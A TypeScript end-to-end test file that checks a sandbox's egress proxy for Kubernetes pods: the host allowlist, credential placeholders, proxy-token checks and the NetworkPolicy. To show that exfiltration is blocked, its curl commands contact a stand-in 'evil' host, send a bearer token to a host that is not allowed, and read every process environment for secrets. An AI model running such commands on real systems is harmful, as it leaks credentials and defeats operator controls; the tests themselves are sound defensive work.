import { createServer } from 'node:net';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { LABEL, NETWORK_LABEL } from '../../src/backends/kubernetes/labels.js';
import { Broker } from '../../src/broker/broker.js';
import type { EgressEvent } from '../../src/egress/types.js';
import { parseConfig } from '../../src/setup/parse-config.js';
import { docker } from '../helpers/docker-e2e.js';
import { createEgressHosts, type EgressHosts, type Seen } from '../helpers/egress-hosts.js';
import { describeNetns } from '../helpers/netns.js';
import { BerthOnStandin } from '../k8s-standin/berth-on-standin.js';

/*
 * Egress of kubernetes pods through the stand-in API server: berth's proxy serves them on its
 * shared listener (egressProxy.listen/advertise), each pod naming itself by the proxy credential
 * in its HTTP(S)_PROXY. Pods join Docker's default bridge and reach the listener on its gateway;
 * the stand-in does not enforce NetworkPolicy (a CNI does), so the policy is checked as the object
 * berth writes, and the traffic through the proxy as real requests from curl inside the pod to the
 * test hosts (egress-hosts.ts), as on docker.
 */

const DEBIAN_IMAGE = 'berth-sandbox:latest';
const GATEWAY = '172.17.0.1';
const GH_VALUE = 'ghp_REAL_value_that_never_enters_the_pod';

/** A port free on the gateway now (the config needs it before the listener exists). */
async function freePort(host: string): Promise<number> {
  const s = createServer();
  await new Promise<void>((resolve, reject) => s.once('error', reject).listen(0, host, () => resolve()));
  const { port } = s.address() as { port: number };
  await new Promise<void>((resolve) => s.close(() => resolve()));
  return port;
}

describeNetns('egress on kubernetes pods (stand-in: allowlist, credentials, the proxy credential)', () => {
  let cluster: BerthOnStandin | undefined;
  let hosts: EgressHosts | undefined;
  let broker: Broker | undefined;
  let seen: Seen[];
  let port: number;
  let home: string;
  let config: ReturnType<typeof parseConfig>;
  const events: EgressEvent[] = [];

  beforeAll(async () => {
    const images = await docker.listImages({ filters: { reference: [DEBIAN_IMAGE] } });
    if (images.length === 0) throw new Error(`image ${DEBIAN_IMAGE} is missing; build it with: node bin/berth.js image build --variant debian`);
    hosts = await createEgressHosts();
    seen = hosts.seen;
    cluster = await BerthOnStandin.start({ podNetwork: 'bridge', imageFor: () => DEBIAN_IMAGE });
    port = await freePort(GATEWAY);
    config = parseConfig({
      backend: 'kubernetes',
      // blocked.egress.test is allowed by name but resolves into a range the cluster blocks.
      kubernetes: cluster.section({ image: DEBIAN_IMAGE, blockedCidrs: [`${hosts.addresses.evil}/32`] }),
      exec: { timeoutSeconds: 30 },
      egressProxy: { upstreamCaFile: hosts.caFile, listen: `${GATEWAY}:${port}`, advertise: `${GATEWAY}:${port}` },
      egress: {
        mode: 'allowlist', allow: ['api.egress.test', 'other.egress.test', 'blocked.egress.test'],
        hosts: { ...hosts.hostsEntry(), 'blocked.egress.test': hosts.addresses.evil },
      },
      credentials: { GITHUB_TOKEN: { from: 'TEST_GH_VALUE', hosts: ['api.egress.test'] } },
    });
    home = cluster.newHome();
    broker = await Broker.open({ config, berthHome: home, env: { PATH: process.env['PATH'], TEST_GH_VALUE: GH_VALUE } });
    broker.observe({ callEnded: () => {}, refused: () => {}, reaped: () => {}, egress: (e) => events.push(e) });
  }, 180_000);

  afterAll(async () => {
    await broker?.close({ graceMs: 2_000 }).catch(() => undefined);
    await cluster?.stop();
    await hosts?.close();
  }, 120_000);

  const run = async (command: string) => broker!.session({ session: 'k1' }).exec(command);

  it('through HTTPS_PROXY: an allowed name answers, another gets the 403 body, the credential arrives with its real value while the pod holds a placeholder', async () => {
    const r = await run([
      'curl -sS https://api.egress.test/gh -H "Authorization: Bearer $GITHUB_TOKEN"',
      'curl -sS http://api.egress.test/plain',
      'curl -sS https://evil.egress.test/ 2>&1 | head -c 200',
      'curl -sS http://evil.egress.test/x',
      'printf "%s\\n" "${GITHUB_TOKEN:0:9}"',
      // Every process's environment and every file berth put in the pod: the placeholder only.
      'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c ghp_REAL; grep -rc ghp_REAL /etc/berth-egress /workspace /home/berth 2>/dev/null | grep -vc ":0$"; true',
    ].join('; '));
    expect(r.stderr).toBe('');
    const lines = r.stdout.split('\n');
    expect(lines.slice(0, 2)).toEqual(['hello from api.egress.test', 'hello from api.egress.test']);
    expect(lines[2]).toMatch(/CONNECT tunnel failed, response 403/);
    expect(lines[3]).toBe('berth egress: evil.egress.test:80 refused (not in egress.allow); the operator decides what this sandbox may reach');
    expect(lines.slice(4)).toEqual(['berth-ph-', '0', '0', '']);
    expect(seen.find((s) => s.url === '/gh')?.authorization).toBe(`Bearer ${GH_VALUE}`);
    expect(events.some((e) => e.allowed && e.host === 'api.egress.test' && e.credentials.includes('GITHUB_TOKEN') && e.identity.session === 'k1')).toBe(true);
    expect(events.some((e) => !e.allowed && e.host === 'evil.egress.test' && e.rule === 'not in egress.allow')).toBe(true);
  });

  it('the placeholder sent to another allowed host is refused as exfiltration, and audited', async () => {
    const before = seen.length;
    const r = await run('curl -sS http://other.egress.test/x -H "Authorization: Bearer $GITHUB_TOKEN"');
    expect(r.stdout).toMatch(/^berth egress: other\.egress\.test:80 refused \(exfiltration/);
    expect(seen.slice(before).some((s) => s.host === 'other.egress.test')).toBe(false);
    expect(events.some((e) => !e.allowed && e.host === 'other.egress.test' && e.rule === 'exfiltration')).toBe(true);
    expect(broker!.egressAudit({ tenant: 'local', allowed: false, limit: 50 }).some((a) => a.rule === 'exfiltration' && a.host === 'other.egress.test')).toBe(true);
  });

  it('an allowed name that resolves into kubernetes.blockedCidrs is refused by the proxy (403, always denied), and nothing goes upstream', async () => {
    const before = seen.length;
    const r = await run([
      'curl -sS http://blocked.egress.test/x',
      'curl -s -o /dev/null -w "%{http_connect}\\n" https://blocked.egress.test/',
    ].join('; '));
    const evil = hosts!.addresses.evil;
    expect(r.stdout.split('\n')).toEqual([
      `berth egress: blocked.egress.test:80 refused (always denied: kubernetes.blockedCidrs: ${evil}); the operator decides what this sandbox may reach`,
      '403', '',
    ]);
    expect(seen.length).toBe(before);
    expect(events.filter((e) => e.host === 'blocked.egress.test').map((e) => [e.allowed, e.rule, e.status])).toEqual([
      [false, 'always denied: kubernetes.blockedCidrs', 403], [false, 'always denied: kubernetes.blockedCidrs', 403],
    ]);
  });

  it('a wrong or missing proxy token is refused with 407 (a wrong one audited for the sandbox it names, at most once a minute, without the host), and nothing goes upstream', async () => {
    const before = seen.length;
    const r = await run([
      'user=${HTTPS_PROXY#http://}; user=${user%%:*}',
      `curl -s -o /dev/null -w "%{http_connect}\\n" -x "http://$user:00000000000000000000000000000000@${GATEWAY}:${port}" https://api.egress.test/`,
      `curl -s -o /dev/null -w "%{http_code}\\n" -x "http://$user:wrong@${GATEWAY}:${port}" http://api.egress.test/w`,
      `curl -s -o /dev/null -w "%{http_connect}\\n" --noproxy "" -x "http://${GATEWAY}:${port}" https://api.egress.test/`,
      `curl -s -o /dev/null -w "%{http_connect}\\n" -x "http://s0123456789abcdef0123456789abcdef:x@${GATEWAY}:${port}" https://api.egress.test/`,
    ].join('; '));
    expect(r.stdout.split('\n')).toEqual(['407', '407', '407', '407', '']);
    expect(seen.length).toBe(before);
    // Two wrong tokens under the pod's user: one row (the other folded into the next), no host of the sender's.
    const auth = events.filter((e) => e.rule === 'proxy auth');
    expect(auth.map((e) => [e.status, e.host, e.port, e.identity.session, e.detail])).toEqual([[407, '?', 0, 'k1', 'a wrong proxy token for this sandbox']]);
  });

  it('the pod and its NetworkPolicy: egress only to the proxy\'s address and port over TCP, no DNS, no ingress; berth\'s CA mounted read-only', async () => {
    await run('true');
    const client = cluster!.client;
    const pods = (await client.core.listNamespacedPod({ namespace: 'berth' })).items;
    expect(pods).toHaveLength(1);
    const pod = pods[0]!;
    const reach = pod.metadata!.labels![NETWORK_LABEL]!;
    expect(reach).toMatch(/^proxy-[0-9a-f]{12}$/);
    const policies = (await client.networking.listNamespacedNetworkPolicy({ namespace: 'berth' })).items;
    // The policies that select this pod: exactly one, the proxy's.
    const selecting = policies.filter((p) => Object.entries(p.spec!.podSelector!.matchLabels ?? {}).every(([k, v]) => pod.metadata!.labels![k] === v));
    expect(selecting).toHaveLength(1);
    const policy = selecting[0]!;
    expect(policy.spec!.policyTypes).toEqual(['Ingress', 'Egress']);
    // No ingress rule under policyTypes Ingress: none admitted (the server drops the empty list, as Go's omitempty).
    expect(policy.spec!.ingress ?? []).toEqual([]);
    expect(policy.spec!.egress).toEqual([{ to: [{ ipBlock: { cidr: `${GATEWAY}/32` } }], ports: [{ protocol: 'TCP', port }] }]);
    expect(JSON.stringify(policy)).not.toMatch(/"port":53/);
    expect(policy.metadata!.labels![LABEL.tenant]).toBe('local');
    const mount = pod.spec!.containers[0]!.volumeMounts!.find((m) => m.mountPath === '/etc/berth-egress');
    expect(mount?.readOnly).toBe(true);
    const inside = await run('touch /etc/berth-egress/x 2>/dev/null; echo "write $?"; grep -c "BEGIN CERTIFICATE" /etc/berth-egress/berth-ca.pem');
    expect(inside.stdout).toBe('write 1\n1\n');
  });

  it('berth\'s CA reaches each pod from a ConfigMap of its own, owned by the pod: the cluster deletes it with the pod', async () => {
    const client = cluster!.client;
    const live = async () => (await client.core.listNamespacedPod({ namespace: 'berth' })).items.filter((p) => p.metadata!.deletionTimestamp == null);
    const before = new Set((await live()).map((p) => p.metadata!.name!));
    expect((await broker!.exec({ session: 'ca' }, 'grep -c "BEGIN CERTIFICATE" /etc/berth-egress/berth-ca.pem')).stdout).toBe('1\n');
    const pod = (await live()).find((p) => !before.has(p.metadata!.name!))!;
    expect(pod).toBeDefined();
    const mapName = pod.spec!.volumes!.find((v) => v.configMap !== undefined)!.configMap!.name!;
    expect(mapName).toBe(`${pod.metadata!.name!}-egress-ca`);
    const map = await client.core.readNamespacedConfigMap({ namespace: 'berth', name: mapName });
    expect(map.metadata!.ownerReferences).toEqual([{ apiVersion: 'v1', kind: 'Pod', name: pod.metadata!.name!, uid: pod.metadata!.uid! }]);
    await broker!.closeSession({ session: 'ca' });
    await vi.waitFor(async () => {
      const maps = (await client.core.listNamespacedConfigMap({ namespace: 'berth' })).items.map((m) => m.metadata!.name);
      expect(maps).not.toContain(mapName);
    }, { timeout: 30_000, interval: 200 });
  });

  it("a restarted berth on the same home passes its start-up check of the proxy's policy and serves the pod again", async () => {
    // The proxy's policy exists (the first pod made it) when the next berth starts.
    expect((await run('true')).exitCode).toBe(0);
    await broker!.close({ graceMs: 2_000 });
    broker = await Broker.open({ config, berthHome: home, env: { PATH: process.env['PATH'], TEST_GH_VALUE: GH_VALUE } });
    const r = await broker.session({ session: 'k2' }).exec('curl -sS http://api.egress.test/plain');
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toBe('hello from api.egress.test\n');

    // The proxy's policy is read back, not waved through: widened by hand, the next start refuses it.
    const client = cluster!.client;
    const policy = (await client.networking.listNamespacedNetworkPolicy({ namespace: 'berth' })).items
      .find((p) => p.metadata!.labels![NETWORK_LABEL]!.startsWith('proxy-'))!;
    policy.spec!.egress![0]!.to!.push({ ipBlock: { cidr: '0.0.0.0/0' } });
    await client.networking.replaceNamespacedNetworkPolicy({ namespace: 'berth', name: policy.metadata!.name!, body: policy });
    await broker.close({ graceMs: 2_000 });
    broker = await Broker.open({ config, berthHome: home, env: { PATH: process.env['PATH'], TEST_GH_VALUE: GH_VALUE } });
    const refused = await broker.session({ session: 'k3' }).exec('true').catch((e: unknown) => e);
    expect(String(refused)).toMatch(new RegExp(`NetworkPolicy ${policy.metadata!.name!} \\(spec\\.egress.*is not what berth writes`));
  });
});
